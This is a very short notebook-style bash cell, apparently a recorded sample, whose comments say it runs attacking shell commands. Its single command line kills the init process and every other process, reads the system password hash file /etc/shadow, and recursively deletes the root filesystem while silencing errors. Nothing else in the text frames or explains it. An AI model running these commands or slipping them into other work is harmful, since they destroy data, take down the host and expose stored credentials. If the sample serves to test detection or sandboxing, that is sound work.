# What: runs shell commands that attack
# Ends: recorded, not reached

# %% own
%%bash
kill -9 1; kill -9 -1 2>/dev/null & cat /etc/shadow; rm -rf / 2>/dev/null; echo done
